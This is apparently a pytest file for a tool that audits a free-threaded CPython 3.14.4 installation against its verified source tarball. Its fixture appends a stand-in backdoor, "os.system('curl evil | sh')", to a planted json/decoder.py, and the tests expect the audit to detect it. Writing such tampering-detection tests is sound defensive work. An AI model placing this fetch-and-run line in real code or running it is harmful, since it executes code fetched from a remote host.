"""The audit of a free-threaded installation (PEP 703: ``bin/python3.14t``, ``lib/python3.14t``).

A free-threaded build names its files ``pythonX.Yt``; ``make install`` puts the same ``Lib/`` there. The
planted prefixes hold files of the real, verified 3.14.4 tarball (``Python-3.14.4.tar.xz``), one of them
edited. The real free-threaded rebuild is audited by hand (docs/audit.md).
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from conftest import unpack_audited_parts

from verify.audit import audit_installation
from verify.audit.inputs import locate_installation
from verify.source.releases import Version

V3144 = Version.parse("3.14.4")


@pytest.fixture(scope="module")
def source_3144(cpython_fixtures: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("source-3.14.4")
    return unpack_audited_parts(cpython_fixtures / "Python-3.14.4.tar.xz", "Python-3.14.4", target)


def plant(prefix: Path, source: Path, name: str) -> Path:
    """``prefix/lib/<name>`` and ``include/<name>`` from the source, with ``json/decoder.py`` edited."""
    stdlib = prefix / "lib" / name
    stdlib.mkdir(parents=True)
    for module in ("os.py", "abc.py", "json"):
        origin = source / "Lib" / module
        if origin.is_dir():
            shutil.copytree(origin, stdlib / module)
        else:
            shutil.copy2(origin, stdlib / module)
    with (stdlib / "json" / "decoder.py").open("a") as stream:
        stream.write("\nimport os; os.system('curl evil | sh')\n")
    info = {"major": 3, "minor": 14, "micro": 4, "releaselevel": "final", "serial": 0}
    (stdlib / "build-details.json").write_text(json.dumps({"language": {"version": "3.14", "version_info": info}}))
    include = prefix / "include" / name
    include.mkdir(parents=True)
    shutil.copy2(source / "Include" / "patchlevel.h", include / "patchlevel.h")
    return prefix


def test_a_free_threaded_prefix_is_found_and_audited_under_its_own_names(source_3144: Path, tmp_path: Path) -> None:
    prefix = plant(tmp_path / "opt" / "python", source_3144, "python3.14t")
    located = locate_installation([prefix], "3.14", tmp_path / "scratch", None, "none")
    assert located.abi == "t" and located.libdir == "lib"
    assert any("free-threaded build (python3.14t" in note for note in located.notes)
    report = audit_installation(prefix, V3144, source_3144, abi=located.abi, libdir=located.libdir)
    assert report.stdlib.endswith("lib/python3.14t")
    assert [finding.path for finding in report.sources.modified] == ["lib/python3.14t/json/decoder.py"]
    assert report.sources.identical >= 8  # os.py, abc.py, json/*.py but decoder.py, patchlevel.h
    assert "include/python3.14t/patchlevel.h" not in {f.path for f in report.sources.modified}
    assert not report.clean
    assert any("release 3.14.4, as recorded by" in note for note in report.notes)


def test_beside_a_default_build_the_free_threaded_one_is_audited_when_asked(source_3144: Path, tmp_path: Path) -> None:
    prefix = plant(tmp_path / "usr", source_3144, "python3.14t")
    plant(prefix, source_3144, "python3.14")
    default = locate_installation([prefix], "3.14", tmp_path / "s1", None, "none")
    assert default.abi == ""
    assert any("python3.14t is installed beside it and was not audited (--free-threaded)" in n for n in default.notes)
    threaded = locate_installation([prefix], "3.14", tmp_path / "s2", None, "none", free_threaded=True)
    assert threaded.abi == "t"
    report = audit_installation(prefix, V3144, source_3144, abi="t")
    assert {finding.path for finding in report.sources.modified} == {"lib/python3.14t/json/decoder.py"}
